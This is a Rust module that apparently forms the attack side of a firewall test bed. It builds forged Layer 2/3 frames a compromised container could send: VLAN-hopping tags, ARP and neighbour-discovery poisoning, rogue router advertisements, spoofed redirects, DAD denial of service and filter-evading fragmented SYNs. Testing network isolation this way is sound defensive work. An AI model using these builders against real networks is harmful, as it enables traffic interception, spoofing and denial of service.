//! The attack toolkit of a compromised container with CAP_NET_RAW: forged
//! Ethernet frames (VLAN tags, other ethertypes, ARP, neighbour discovery,
//! router advertisements, redirects, bare and fragmented TCP SYNs, UDP to
//! broadcast, multicast and link-local addresses), written straight to an
//! interface with an `AF_PACKET` socket.
//!
//! Every builder returns a complete Ethernet frame with valid IPv4 header
//! and L4 checksums: a receiver that drops a frame must drop it for what it
//! means, never because the test bed mangled it. Frames are not padded to
//! 60 bytes; veth does not need it and the IP length fields are exact.
//!
//! The kernel tests in `tests/attack_controls.rs` prove each attack works
//! on a plain bridge, so that "blocked" with the firewall means blocked.

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6, TcpStream};
use std::sync::atomic::{AtomicU16, AtomicU32, Ordering};
use std::time::Duration;

pub use crate::frame::Mac;
use crate::Netns;

/// `ff:ff:ff:ff:ff:ff`.
pub const BROADCAST: Mac = [0xff; 6];
/// The 802.1D bridge group address (STP BPDUs); a Linux bridge with STP
/// off floods it like any other frame.
pub const STP_GROUP: Mac = [0x01, 0x80, 0xc2, 0x00, 0x00, 0x00];
/// The 802.1AB nearest-bridge group address of LLDP. A Linux bridge never
/// forwards it (unless `group_fwd_mask` says so) nor passes it to the
/// bridge device: only the receiving port's own stack sees it.
pub const LLDP_GROUP: Mac = [0x01, 0x80, 0xc2, 0x00, 0x00, 0x0e];

/// Ethertypes used here.
pub mod ethertype {
    /// IPv4.
    pub const IPV4: u16 = 0x0800;
    /// ARP.
    pub const ARP: u16 = 0x0806;
    /// Wake-on-LAN magic packet.
    pub const WAKE_ON_LAN: u16 = 0x0842;
    /// 802.1Q customer VLAN tag (C-tag).
    pub const VLAN: u16 = 0x8100;
    /// IPv6.
    pub const IPV6: u16 = 0x86dd;
    /// 802.1ad service VLAN tag (S-tag, "QinQ" outer).
    pub const QINQ: u16 = 0x88a8;
    /// IEEE 802 local experimental ethertype 1.
    pub const LOCAL_EXPERIMENTAL: u16 = 0x88b5;
    /// LLDP.
    pub const LLDP: u16 = 0x88cc;
}

/// IP protocol numbers used here.
pub mod proto {
    /// ICMP.
    pub const ICMP: u8 = 1;
    /// TCP.
    pub const TCP: u8 = 6;
    /// UDP.
    pub const UDP: u8 = 17;
    /// IPv6 Fragment extension header.
    pub const FRAGMENT: u8 = 44;
    /// ICMPv6.
    pub const ICMPV6: u8 = 58;
}

// ---------------------------------------------------------------------------
// Checksums

/// The folded 16-bit ones' complement sum of `data` (an odd last byte is
/// padded with zero) plus `initial`, not complemented. Over a header or
/// segment that carries a correct checksum (and its pseudo-header) the
/// result is `0xffff`: that is how the unit tests verify every builder.
pub fn ones_complement_sum(data: &[u8], initial: u32) -> u16 {
    let mut sum = u64::from(initial);
    for chunk in data.chunks(2) {
        sum += u64::from(u16::from_be_bytes([chunk[0], *chunk.get(1).unwrap_or(&0)]));
    }
    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    sum as u16
}

/// The Internet checksum (RFC 1071) of `data`, starting from the partial
/// sum `initial` (a pseudo-header's).
pub fn internet_checksum(data: &[u8], initial: u32) -> u16 {
    !ones_complement_sum(data, initial)
}

/// The partial sum of the TCP/UDP/ICMPv6 pseudo-header for a segment of
/// `len` bytes: addresses, length and protocol (RFC 793, RFC 8200 8.1).
pub fn pseudo_header_sum(src: IpAddr, dst: IpAddr, protocol: u8, len: usize) -> u32 {
    let mut p = Vec::with_capacity(40);
    match (src, dst) {
        (IpAddr::V4(s), IpAddr::V4(d)) => {
            p.extend_from_slice(&s.octets());
            p.extend_from_slice(&d.octets());
            p.extend_from_slice(&[0, protocol]);
            p.extend_from_slice(&(len as u16).to_be_bytes());
        }
        (IpAddr::V6(s), IpAddr::V6(d)) => {
            p.extend_from_slice(&s.octets());
            p.extend_from_slice(&d.octets());
            p.extend_from_slice(&(len as u32).to_be_bytes());
            p.extend_from_slice(&[0, 0, 0, protocol]);
        }
        _ => panic!("source and destination of different families"),
    }
    u32::from(ones_complement_sum(&p, 0))
}

/// Where the checksum of an L4 segment of `protocol` sits.
fn checksum_offset(protocol: u8) -> usize {
    match protocol {
        proto::TCP => 16,
        proto::UDP => 6,
        proto::ICMP | proto::ICMPV6 => 2,
        other => panic!("no checksum offset known for protocol {other}"),
    }
}

/// `segment` with its checksum field filled in. ICMPv4 alone has no
/// pseudo-header; a UDP checksum that comes out 0 is sent as `0xffff`,
/// since 0 means "none".
fn fill_l4_checksum(src: IpAddr, dst: IpAddr, protocol: u8, mut segment: Vec<u8>) -> Vec<u8> {
    let at = checksum_offset(protocol);
    segment[at..at + 2].copy_from_slice(&[0, 0]);
    let initial = if protocol == proto::ICMP {
        0
    } else {
        pseudo_header_sum(src, dst, protocol, segment.len())
    };
    let mut c = internet_checksum(&segment, initial);
    if protocol == proto::UDP && c == 0 {
        c = 0xffff;
    }
    segment[at..at + 2].copy_from_slice(&c.to_be_bytes());
    segment
}

// ---------------------------------------------------------------------------
// Layers 2 and 3

/// An Ethernet II header followed by `payload`.
fn ethernet(src_mac: Mac, dst_mac: Mac, ethertype: u16, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(14 + payload.len());
    f.extend_from_slice(&dst_mac);
    f.extend_from_slice(&src_mac);
    f.extend_from_slice(&ethertype.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// IPv4 "don't fragment" flag, in the flags/offset field.
const DF: u16 = 0x4000;
/// IPv4 "more fragments" flag, in the flags/offset field.
const MF: u16 = 0x2000;

/// A fresh IPv4 identification / IPv6 fragment identification, so that
/// two fragmented sends never land in the same reassembly queue.
fn next_id() -> u32 {
    static ID: AtomicU32 = AtomicU32::new(0x7a00);
    ID.fetch_add(1, Ordering::Relaxed)
}

/// A 20-byte IPv4 header (no options) with its checksum; `frag` is the
/// flags/fragment-offset field (offset in 8-byte units).
fn ipv4_header(
    src: Ipv4Addr,
    dst: Ipv4Addr,
    protocol: u8,
    payload_len: usize,
    id: u16,
    frag: u16,
    ttl: u8,
) -> Vec<u8> {
    let mut h = vec![0x45, 0];
    h.extend_from_slice(&((20 + payload_len) as u16).to_be_bytes());
    h.extend_from_slice(&id.to_be_bytes());
    h.extend_from_slice(&frag.to_be_bytes());
    h.extend_from_slice(&[ttl, protocol, 0, 0]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    let c = internet_checksum(&h, 0);
    h[10..12].copy_from_slice(&c.to_be_bytes());
    h
}

/// A 40-byte IPv6 header. Neighbour discovery needs hop limit 255 (a
/// receiver takes that as proof the sender is on-link, RFC 4861 6.1).
fn ipv6_header(
    src: Ipv6Addr,
    dst: Ipv6Addr,
    next_header: u8,
    payload_len: usize,
    hop_limit: u8,
) -> Vec<u8> {
    let mut h = vec![0x60, 0, 0, 0];
    h.extend_from_slice(&(payload_len as u16).to_be_bytes());
    h.extend_from_slice(&[next_header, hop_limit]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    h
}

/// An Ethernet frame carrying one unfragmented IP packet with this L4
/// `segment`, whose checksum is computed here. IPv4 packets carry DF.
pub fn ip_frame(
    src_mac: Mac,
    dst_mac: Mac,
    src: IpAddr,
    dst: IpAddr,
    protocol: u8,
    segment: Vec<u8>,
    hop_limit: u8,
) -> Vec<u8> {
    let segment = fill_l4_checksum(src, dst, protocol, segment);
    match (src, dst) {
        (IpAddr::V4(s), IpAddr::V4(d)) => {
            let id = next_id() as u16;
            let mut h = ipv4_header(s, d, protocol, segment.len(), id, DF, hop_limit);
            h.extend(segment);
            ethernet(src_mac, dst_mac, ethertype::IPV4, &h)
        }
        (IpAddr::V6(s), IpAddr::V6(d)) => {
            let mut p = ipv6_header(s, d, protocol, segment.len(), hop_limit);
            p.extend(segment);
            ethernet(src_mac, dst_mac, ethertype::IPV6, &p)
        }
        _ => panic!("source and destination of different families"),
    }
}

// ---------------------------------------------------------------------------
// VLAN tags and other ethertypes

/// One 802.1Q (C-tag, TPID 0x8100) or 802.1ad (S-tag, TPID 0x88a8) tag.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Tag {
    /// The tag protocol identifier: [`ethertype::VLAN`] or
    /// [`ethertype::QINQ`].
    pub tpid: u16,
    /// Priority code point (0..=7).
    pub pcp: u8,
    /// VLAN id (0..=4095). 0 is a priority tag: "no VLAN", which a Linux
    /// receiver strips and then processes the frame as if untagged.
    pub vid: u16,
}

impl Tag {
    /// A C-tag with priority 0.
    pub fn c(vid: u16) -> Tag {
        Tag {
            tpid: ethertype::VLAN,
            pcp: 0,
            vid,
        }
    }

    /// An S-tag (802.1ad outer tag) with priority 0.
    pub fn s(vid: u16) -> Tag {
        Tag {
            tpid: ethertype::QINQ,
            pcp: 0,
            vid,
        }
    }

    /// The tag control information: PCP, DEI 0, VID.
    pub fn tci(&self) -> u16 {
        (u16::from(self.pcp & 7) << 13) | (self.vid & 0x0fff)
    }
}

/// `inner` (a complete Ethernet frame) with `tags` inserted after the MAC
/// addresses, outermost first, any depth.
pub fn tagged(inner: Vec<u8>, tags: &[Tag]) -> Vec<u8> {
    assert!(inner.len() >= 14, "not an Ethernet frame");
    let mut f = Vec::with_capacity(inner.len() + 4 * tags.len());
    f.extend_from_slice(&inner[..12]);
    for t in tags {
        f.extend_from_slice(&t.tpid.to_be_bytes());
        f.extend_from_slice(&t.tci().to_be_bytes());
    }
    f.extend_from_slice(&inner[12..]);
    f
}

/// `inner` with 802.1Q tags (TPID 0x8100 for every level) carrying the
/// VLAN ids `vids`, outermost first: `&[100]` single-tagged, `&[100, 200]`
/// double-tagged (the classic VLAN-hopping frame), `&[0]` priority-tagged.
pub fn vlan_tagged(inner: Vec<u8>, vids: &[u16]) -> Vec<u8> {
    let tags: Vec<Tag> = vids.iter().map(|v| Tag::c(*v)).collect();
    tagged(inner, &tags)
}

/// `inner` with an 802.1ad S-tag (TPID 0x88a8) carrying `outer_vid`, then
/// 802.1Q C-tags carrying `inner_vids`: the standard QinQ encoding.
pub fn qinq_tagged(inner: Vec<u8>, outer_vid: u16, inner_vids: &[u16]) -> Vec<u8> {
    let mut tags = vec![Tag::s(outer_vid)];
    tags.extend(inner_vids.iter().map(|v| Tag::c(*v)));
    tagged(inner, &tags)
}

/// A frame of an arbitrary `ethertype` with `payload`, e.g. 0x88b5 (local
/// experimental), 0x0842 (Wake-on-LAN), 0x88cc (LLDP). A value below
/// 0x0600 is written as is, and a receiver reads it as an 802.3 length;
/// [`llc_frame`] builds such frames with the right length.
pub fn ethertype_frame(src_mac: Mac, dst_mac: Mac, ethertype: u16, payload: &[u8]) -> Vec<u8> {
    ethernet(src_mac, dst_mac, ethertype, payload)
}

/// An 802.3 frame: a length field (< 0x0600) instead of an ethertype, then
/// an 802.2 LLC header (DSAP, SSAP, control) and `payload`. DSAP/SSAP 0x42
/// with control 0x03 is what STP BPDUs use.
pub fn llc_frame(
    src_mac: Mac,
    dst_mac: Mac,
    dsap: u8,
    ssap: u8,
    control: u8,
    payload: &[u8],
) -> Vec<u8> {
    let mut llc = vec![dsap, ssap, control];
    llc.extend_from_slice(payload);
    assert!(llc.len() < 0x0600, "too long for an 802.3 length field");
    ethernet(src_mac, dst_mac, llc.len() as u16, &llc)
}

/// A Wake-on-LAN magic packet for `target` (six 0xff bytes, then the MAC
/// sixteen times), ethertype 0x0842, broadcast; `marker` is appended where
/// the optional SecureOn password would go.
pub fn wake_on_lan(src_mac: Mac, target: Mac, marker: &[u8]) -> Vec<u8> {
    let mut p = vec![0xff; 6];
    for _ in 0..16 {
        p.extend_from_slice(&target);
    }
    p.extend_from_slice(marker);
    ethernet(src_mac, BROADCAST, ethertype::WAKE_ON_LAN, &p)
}

/// An LLDP frame to `dst_mac` (normally [`LLDP_GROUP`]) with the mandatory
/// chassis id (the MAC), port id and TTL TLVs, and `marker` as the system
/// name so a receiver can recognise it.
pub fn lldp(src_mac: Mac, dst_mac: Mac, marker: &[u8]) -> Vec<u8> {
    fn tlv(p: &mut Vec<u8>, ty: u16, value: &[u8]) {
        let head = (ty << 9) | (value.len() as u16 & 0x1ff);
        p.extend_from_slice(&head.to_be_bytes());
        p.extend_from_slice(value);
    }
    let mut p = Vec::new();
    let mut chassis = vec![4]; // subtype 4: MAC address
    chassis.extend_from_slice(&src_mac);
    tlv(&mut p, 1, &chassis);
    tlv(&mut p, 2, b"\x07eth0"); // subtype 7: locally assigned
    tlv(&mut p, 3, &120u16.to_be_bytes());
    tlv(&mut p, 5, marker);
    tlv(&mut p, 0, &[]);
    ethernet(src_mac, dst_mac, ethertype::LLDP, &p)
}

// ---------------------------------------------------------------------------
// ARP

/// The ARP operation.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArpOp {
    /// Who has `tpa`? Tell `spa` (at `sha`).
    Request = 1,
    /// `spa` is at `sha`.
    Reply = 2,
}

/// An Ethernet/IPv4 ARP packet. A Linux receiver that is the target of a
/// request creates or overrides its entry for `spa` with `sha` whatever
/// `arp_accept` says: that is the strongest form of poisoning.
#[allow(clippy::too_many_arguments)]
pub fn arp(
    src_mac: Mac,
    dst_mac: Mac,
    op: ArpOp,
    sha: Mac,
    spa: Ipv4Addr,
    tha: Mac,
    tpa: Ipv4Addr,
) -> Vec<u8> {
    let mut p = vec![0, 1, 0x08, 0x00, 6, 4, 0, op as u8];
    p.extend_from_slice(&sha);
    p.extend_from_slice(&spa.octets());
    p.extend_from_slice(&tha);
    p.extend_from_slice(&tpa.octets());
    ethernet(src_mac, dst_mac, ethertype::ARP, &p)
}

/// A broadcast gratuitous ARP claiming `ip` is at `mac` (`spa == tpa`).
/// The reply form carries `tha == sha`, which Linux requires before it
/// treats a reply as gratuitous. With the default `arp_accept=0` a Linux
/// receiver only overrides an entry it already has (at once, ignoring
/// `locktime`); it creates none.
pub fn gratuitous_arp(mac: Mac, ip: Ipv4Addr, op: ArpOp) -> Vec<u8> {
    let tha = match op {
        ArpOp::Request => [0; 6],
        ArpOp::Reply => mac,
    };
    arp(mac, BROADCAST, op, mac, ip, tha, ip)
}

// ---------------------------------------------------------------------------
// ICMPv6 neighbour discovery and redirects

/// The flags of a neighbour advertisement.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct NaFlags {
    /// R: the sender is a router.
    pub router: bool,
    /// S: an answer to a solicitation (Linux drops a multicast NA with it).
    pub solicited: bool,
    /// O: override an existing cache entry's link-layer address.
    pub override_entry: bool,
}

/// An ND option: type, then the length in units of 8 bytes.
fn nd_option(p: &mut Vec<u8>, ty: u8, value: &[u8]) {
    let len = 2 + value.len();
    assert_eq!(len % 8, 0, "ND option not a multiple of 8 bytes");
    p.push(ty);
    p.push((len / 8) as u8);
    p.extend_from_slice(value);
}

/// Source link-layer address option (type 1).
const OPT_SLLA: u8 = 1;
/// Target link-layer address option (type 2).
const OPT_TLLA: u8 = 2;
/// Prefix information option (type 3).
const OPT_PREFIX: u8 = 3;

/// An ICMPv6 message with hop limit 255, as every ND message needs.
fn nd_frame(src_mac: Mac, dst_mac: Mac, src: Ipv6Addr, dst: Ipv6Addr, msg: Vec<u8>) -> Vec<u8> {
    ip_frame(
        src_mac,
        dst_mac,
        IpAddr::V6(src),
        IpAddr::V6(dst),
        proto::ICMPV6,
        msg,
        255,
    )
}

/// A neighbour advertisement (type 136) for `target`, with the target
/// link-layer address option when `target_lladdr` is given. A Linux
/// receiver ignores an unsolicited NA for an address it has no entry for
/// (unless `accept_untracked_na`), and with O set overrides one it has.
#[allow(clippy::too_many_arguments)]
pub fn neighbor_advert(
    src_mac: Mac,
    dst_mac: Mac,
    src_ip: Ipv6Addr,
    dst_ip: Ipv6Addr,
    target: Ipv6Addr,
    target_lladdr: Option<Mac>,
    flags: NaFlags,
) -> Vec<u8> {
    let bits = (u8::from(flags.router) << 7)
        | (u8::from(flags.solicited) << 6)
        | (u8::from(flags.override_entry) << 5);
    let mut m = vec![136, 0, 0, 0, bits, 0, 0, 0];
    m.extend_from_slice(&target.octets());
    if let Some(mac) = target_lladdr {
        nd_option(&mut m, OPT_TLLA, &mac);
    }
    nd_frame(src_mac, dst_mac, src_ip, dst_ip, m)
}

/// An unsolicited NA to all nodes (`ff02::1`) claiming `target` is at
/// `mac`, with O set: the IPv6 counterpart of a gratuitous ARP.
pub fn unsolicited_na(mac: Mac, src_ip: Ipv6Addr, target: Ipv6Addr) -> Vec<u8> {
    let all_nodes = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
    neighbor_advert(
        mac,
        multicast_mac(IpAddr::V6(all_nodes)).expect("multicast"),
        src_ip,
        all_nodes,
        target,
        Some(mac),
        NaFlags {
            override_entry: true,
            ..NaFlags::default()
        },
    )
}

/// A neighbour solicitation (type 135) for `target`, with the source
/// link-layer address option when `source_lladdr` is given. A Linux
/// receiver that owns `target` creates (or overrides) its entry for
/// `src_ip` at that address: with a forged `src_ip`, poisoning. With
/// `src_ip` `::` (duplicate address detection) the option must be absent;
/// see [`dad_probe`].
pub fn neighbor_solicit(
    src_mac: Mac,
    dst_mac: Mac,
    src_ip: Ipv6Addr,
    dst_ip: Ipv6Addr,
    target: Ipv6Addr,
    source_lladdr: Option<Mac>,
) -> Vec<u8> {
    let mut m = vec![135, 0, 0, 0, 0, 0, 0, 0];
    m.extend_from_slice(&target.octets());
    if let Some(mac) = source_lladdr {
        nd_option(&mut m, OPT_SLLA, &mac);
    }
    nd_frame(src_mac, dst_mac, src_ip, dst_ip, m)
}

/// A duplicate-address-detection NS for `target` from `::` to its
/// solicited-node group. A node whose address `target` is still tentative
/// takes it as a simultaneous DAD and gives the address up (`dadfailed`):
/// a denial of service on address configuration.
pub fn dad_probe(src_mac: Mac, target: Ipv6Addr) -> Vec<u8> {
    let (group, group_mac) = solicited_node(target);
    neighbor_solicit(
        src_mac,
        group_mac,
        Ipv6Addr::UNSPECIFIED,
        group,
        target,
        None,
    )
}

/// A prefix information option of a router advertisement.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PrefixInfo {
    /// The prefix.
    pub prefix: Ipv6Addr,
    /// Its length (64 for SLAAC).
    pub len: u8,
    /// L: the prefix is on-link.
    pub on_link: bool,
    /// A: receivers may configure an address in it (SLAAC).
    pub autonomous: bool,
    /// Valid lifetime, seconds.
    pub valid: u32,
    /// Preferred lifetime, seconds.
    pub preferred: u32,
}

/// A router advertisement (type 134) from `src_ip`, which must be
/// link-local (Linux ignores any other source), with the source
/// link-layer address option and optionally one prefix. A nonzero
/// `router_lifetime` makes a Linux receiver that accepts RAs
/// (`accept_ra=1` and not forwarding, or `accept_ra=2`) install a default
/// route via `src_ip`; an autonomous prefix makes it configure an address.
pub fn router_advert(
    src_mac: Mac,
    dst_mac: Mac,
    src_ip: Ipv6Addr,
    router_lifetime: u16,
    prefix: Option<PrefixInfo>,
) -> Vec<u8> {
    // Current hop limit 64, no M/O flags, reachable time and retransmit
    // timer unspecified (0).
    let mut m = vec![134, 0, 0, 0, 64, 0];
    m.extend_from_slice(&router_lifetime.to_be_bytes());
    m.extend_from_slice(&[0; 8]);
    nd_option(&mut m, OPT_SLLA, &src_mac);
    if let Some(p) = prefix {
        let mut v = vec![
            p.len,
            (u8::from(p.on_link) << 7) | (u8::from(p.autonomous) << 6),
        ];
        v.extend_from_slice(&p.valid.to_be_bytes());
        v.extend_from_slice(&p.preferred.to_be_bytes());
        v.extend_from_slice(&[0; 4]);
        v.extend_from_slice(&p.prefix.octets());
        nd_option(&mut m, OPT_PREFIX, &v);
    }
    // All nodes, as an unsolicited RA goes; a unicast `dst_mac` still
    // reaches only that receiver.
    let all_nodes = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);
    nd_frame(src_mac, dst_mac, src_ip, all_nodes, m)
}

/// An ICMPv6 redirect (type 137) telling `dst_ip` that `destination` is
/// better reached via `target` (link-local, or `destination` itself when
/// on-link), with the target link-layer address option when given. No
/// redirected-header option: Linux then applies it without looking for a
/// matching socket. Linux accepts it only from a link-local `src_ip` that
/// is the current next hop for `destination`: so the forger spoofs the
/// router's link-local address.
#[allow(clippy::too_many_arguments)]
pub fn icmpv6_redirect(
    src_mac: Mac,
    dst_mac: Mac,
    src_ip: Ipv6Addr,
    dst_ip: Ipv6Addr,
    target: Ipv6Addr,
    destination: Ipv6Addr,
    target_lladdr: Option<Mac>,
) -> Vec<u8> {
    let mut m = vec![137, 0, 0, 0, 0, 0, 0, 0];
    m.extend_from_slice(&target.octets());
    m.extend_from_slice(&destination.octets());
    if let Some(mac) = target_lladdr {
        nd_option(&mut m, OPT_TLLA, &mac);
    }
    nd_frame(src_mac, dst_mac, src_ip, dst_ip, m)
}

/// An ICMP redirect (type 5, code 1: for the host) from `src_ip` (the
/// victim's current gateway, spoofed) to `dst_ip` (the victim) saying
/// `destination` is better reached via `gateway`.
///
/// The quoted datagram is an echo *reply* from the victim to
/// `destination`: Linux applies a redirect quoting ICMP (other than an
/// echo request) without looking for a socket, whereas for TCP or UDP it
/// needs a socket of that flow. Linux installs the redirect only if it
/// already has a valid neighbour entry for `gateway` (else it merely
/// resolves it): send an ARP first, or the redirect twice.
pub fn icmp4_redirect(
    src_mac: Mac,
    dst_mac: Mac,
    src_ip: Ipv4Addr,
    dst_ip: Ipv4Addr,
    gateway: Ipv4Addr,
    destination: Ipv4Addr,
) -> Vec<u8> {
    let echo_reply = fill_l4_checksum(
        IpAddr::V4(dst_ip),
        IpAddr::V4(destination),
        proto::ICMP,
        vec![0, 0, 0, 0, 0x12, 0x34, 0, 1],
    );
    let mut quoted = ipv4_header(dst_ip, destination, proto::ICMP, 8, 0x5151, DF, 64);
    quoted.extend(echo_reply);
    let mut m = vec![5, 1, 0, 0];
    m.extend_from_slice(&gateway.octets());
    m.extend(quoted);
    ip_frame(
        src_mac,
        dst_mac,
        IpAddr::V4(src_ip),
        IpAddr::V4(dst_ip),
        proto::ICMP,
        m,
        64,
    )
}

// ---------------------------------------------------------------------------
// TCP

/// The initial sequence number of every forged SYN.
pub const SYN_SEQ: u32 = 0x5eed_0001;

/// A 32-byte TCP SYN segment (checksum filled in): MSS 1460, SACK
/// permitted, window scale 7, the options a Linux client sends, so the
/// receiver treats it as an ordinary connection attempt.
fn tcp_syn_segment(src: IpAddr, dst: IpAddr, sport: u16, dport: u16) -> Vec<u8> {
    let mut t = Vec::with_capacity(32);
    t.extend_from_slice(&sport.to_be_bytes());
    t.extend_from_slice(&dport.to_be_bytes());
    t.extend_from_slice(&SYN_SEQ.to_be_bytes());
    t.extend_from_slice(&0u32.to_be_bytes()); // ack
    t.extend_from_slice(&[8 << 4, 0x02]); // data offset 8 words, SYN
    t.extend_from_slice(&64240u16.to_be_bytes());
    t.extend_from_slice(&[0, 0, 0, 0]); // checksum, urgent pointer
    t.extend_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    t.extend_from_slice(&[4, 2, 1, 3, 3, 7, 1, 1]); // SACK-ok, NOP, wscale 7, NOPs
    fill_l4_checksum(src, dst, proto::TCP, t)
}

/// A TCP SYN from `src:sport` to `dst:dport` (IPv4 or IPv6, chosen by the
/// addresses). A Linux receiver with a listener there answers SYN-ACK.
pub fn tcp_syn(
    src_mac: Mac,
    dst_mac: Mac,
    src: IpAddr,
    dst: IpAddr,
    sport: u16,
    dport: u16,
) -> Vec<u8> {
    let seg = tcp_syn_segment(src, dst, sport, dport);
    ip_frame(src_mac, dst_mac, src, dst, proto::TCP, seg, 64)
}

/// `segment` (checksum already correct) split into two IPv4 fragments:
/// the first carries `first_len` bytes (a multiple of 8), the second the
/// rest at offset `first_len / 8`.
#[allow(clippy::too_many_arguments)]
pub fn ipv4_fragments(
    src_mac: Mac,
    dst_mac: Mac,
    src: Ipv4Addr,
    dst: Ipv4Addr,
    protocol: u8,
    segment: &[u8],
    first_len: usize,
) -> Vec<Vec<u8>> {
    // Fragment offsets count 8-byte units (`& 7`: the workspace MSRV
    // predates `is_multiple_of`).
    assert!(first_len & 7 == 0 && first_len < segment.len());
    let id = next_id() as u16;
    let (a, b) = segment.split_at(first_len);
    let mut first = ipv4_header(src, dst, protocol, a.len(), id, MF, 64);
    first.extend_from_slice(a);
    let offset = (first_len / 8) as u16;
    let mut second = ipv4_header(src, dst, protocol, b.len(), id, offset, 64);
    second.extend_from_slice(b);
    vec![
        ethernet(src_mac, dst_mac, ethertype::IPV4, &first),
        ethernet(src_mac, dst_mac, ethertype::IPV4, &second),
    ]
}

/// The "tiny fragment" SYN (RFC 1858): the SYN of [`tcp_syn`] in two IPv4
/// fragments, the first with only the first 8 bytes of the TCP header
/// (ports and sequence number, no flags byte), the second with the rest
/// at offset 1 (8 bytes). A filter that looks at the first fragment alone
/// cannot tell it is a SYN; the receiver reassembles and answers SYN-ACK.
pub fn ipv4_fragments_tcp_syn(
    src_mac: Mac,
    dst_mac: Mac,
    src: Ipv4Addr,
    dst: Ipv4Addr,
    sport: u16,
    dport: u16,
) -> Vec<Vec<u8>> {
    let seg = tcp_syn_segment(IpAddr::V4(src), IpAddr::V4(dst), sport, dport);
    ipv4_fragments(src_mac, dst_mac, src, dst, proto::TCP, &seg, 8)
}

/// `segment` (checksum already correct) split into two IPv6 fragments
/// with a Fragment extension header each: the first carries `first_len`
/// bytes (a multiple of 8), the second the rest.
#[allow(clippy::too_many_arguments)]
pub fn ipv6_fragments(
    src_mac: Mac,
    dst_mac: Mac,
    src: Ipv6Addr,
    dst: Ipv6Addr,
    protocol: u8,
    segment: &[u8],
    first_len: usize,
) -> Vec<Vec<u8>> {
    // Fragment offsets count 8-byte units (`& 7`: the workspace MSRV
    // predates `is_multiple_of`).
    assert!(first_len & 7 == 0 && first_len < segment.len());
    let id = next_id();
    let (a, b) = segment.split_at(first_len);
    let one = |part: &[u8], offset: usize, more: bool| {
        let mut p = ipv6_header(src, dst, proto::FRAGMENT, 8 + part.len(), 64);
        p.extend_from_slice(&[protocol, 0]);
        p.extend_from_slice(&(((offset / 8) as u16) << 3 | u16::from(more)).to_be_bytes());
        p.extend_from_slice(&id.to_be_bytes());
        p.extend_from_slice(part);
        ethernet(src_mac, dst_mac, ethertype::IPV6, &p)
    };
    vec![one(a, 0, true), one(b, first_len, false)]
}

/// The SYN of [`tcp_syn`] over IPv6 in two fragments, the first with
/// `first_len` bytes of the 32-byte TCP header. With 8 (flags in the
/// second fragment, the IPv4 tiny-fragment trick) Linux drops the first
/// fragment and answers ICMPv6 parameter problem code 3 (RFC 8200 4.5:
/// the first fragment must hold the whole header chain); with 24 or more
/// the SYN is reassembled and answered.
pub fn ipv6_fragments_tcp_syn(
    src_mac: Mac,
    dst_mac: Mac,
    src: Ipv6Addr,
    dst: Ipv6Addr,
    sport: u16,
    dport: u16,
    first_len: usize,
) -> Vec<Vec<u8>> {
    let seg = tcp_syn_segment(IpAddr::V6(src), IpAddr::V6(dst), sport, dport);
    ipv6_fragments(src_mac, dst_mac, src, dst, proto::TCP, &seg, first_len)
}

// ---------------------------------------------------------------------------
// UDP

/// A UDP datagram from `src:sport` to `dst:dport`, with its checksum (over
/// IPv4 too), in one frame. Any destination: limited broadcast
/// 255.255.255.255 (dst MAC [`BROADCAST`]), multicast such as 224.0.0.1 or
/// `ff02::1` (dst MAC from [`multicast_mac`]), link-local `fe80::`
/// unicast. Put a marker in `payload` for the receiver to recognise.
pub fn udp_to(
    src_mac: Mac,
    dst_mac: Mac,
    src: IpAddr,
    dst: IpAddr,
    sport: u16,
    dport: u16,
    payload: &[u8],
) -> Vec<u8> {
    let mut u = Vec::with_capacity(8 + payload.len());
    u.extend_from_slice(&sport.to_be_bytes());
    u.extend_from_slice(&dport.to_be_bytes());
    u.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    u.extend_from_slice(&[0, 0]);
    u.extend_from_slice(payload);
    ip_frame(src_mac, dst_mac, src, dst, proto::UDP, u, 64)
}

// ---------------------------------------------------------------------------
// Addresses

/// The modified-EUI-64 link-local address of `mac` (what Linux gives an
/// Ethernet interface with the default `addr_gen_mode`).
pub fn eui64_link_local(mac: Mac) -> Ipv6Addr {
    let mut o = [0u8; 16];
    o[0] = 0xfe;
    o[1] = 0x80;
    o[8] = mac[0] ^ 0x02;
    o[9] = mac[1];
    o[10] = mac[2];
    o[11] = 0xff;
    o[12] = 0xfe;
    o[13..16].copy_from_slice(&mac[3..6]);
    Ipv6Addr::from(o)
}

/// The solicited-node multicast group of `ip` (`ff02::1:ffXX:XXXX`) and
/// its MAC (`33:33:ff:XX:XX:XX`): where neighbour solicitations go.
pub fn solicited_node(ip: Ipv6Addr) -> (Ipv6Addr, Mac) {
    let o = ip.octets();
    let mut g = [0u8; 16];
    g[0] = 0xff;
    g[1] = 0x02;
    g[11] = 0x01;
    g[12] = 0xff;
    g[13..16].copy_from_slice(&o[13..16]);
    let group = Ipv6Addr::from(g);
    let mac = multicast_mac(IpAddr::V6(group)).expect("multicast");
    (group, mac)
}

/// The destination MAC of a group address: `01:00:5e` and the low 23 bits
/// of an IPv4 multicast address, `33:33` and the low 32 bits of an IPv6
/// one, `ff:ff:ff:ff:ff:ff` for 255.255.255.255. `None` for unicast.
pub fn multicast_mac(ip: IpAddr) -> Option<Mac> {
    match ip {
        IpAddr::V4(v4) if v4.is_broadcast() => Some(BROADCAST),
        IpAddr::V4(v4) if v4.is_multicast() => {
            let o = v4.octets();
            Some([0x01, 0x00, 0x5e, o[1] & 0x7f, o[2], o[3]])
        }
        IpAddr::V6(v6) if v6.is_multicast() => {
            let o = v6.octets();
            Some([0x33, 0x33, o[12], o[13], o[14], o[15]])
        }
        _ => None,
    }
}

// ---------------------------------------------------------------------------
// Sending

/// Write `frames` to `ifname` inside `ns`, in order, bypassing the IP
/// stack (what CAP_NET_RAW allows a container).
